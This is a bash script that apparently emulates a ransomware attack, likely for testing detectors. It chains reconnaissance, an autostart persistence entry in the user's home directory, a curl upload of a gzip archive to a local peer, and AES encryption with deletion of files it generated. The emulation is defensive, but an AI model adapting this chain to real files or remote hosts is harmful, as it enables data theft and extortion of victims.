#!/usr/bin/env bash
# A whole attack in small: quiet work first, then a look around, an entry to stay, an upload, and the
# encryption of its own made files.
# attack_type: ransomware
# severity: 1.0
# arguments: FILES QUIET PAUSE
# variants: 40 3 0.03 | 20 6 0.2 | 80 1 0
# needs: curl openssl gzip
mkdir -p documents "$HOME/.config/autostart"
for i in $(seq "$1"); do head -c 30000 /dev/urandom > "documents/$i.doc"; done
until ((SECONDS >= $2)) && [ -e archive.gz ]; do cat documents/* | gzip > archive.gz; sleep 0.5; done
uname -s > about; ps >> about; find documents -type f >> about
printf '[Desktop Entry]\nExec=%s\n' "$0" > "$HOME/.config/autostart/update.desktop"
curl -s -o answer --data-binary @archive.gz "http://127.0.0.1:$PEER/drop"
for file in documents/*.doc; do
  openssl enc -aes-256-ctr -pbkdf2 -iter 1000 -pass pass:emulation -in "$file" -out "$file.locked"
  rm "$file"
  sleep "$3"
done
rm archive.gz
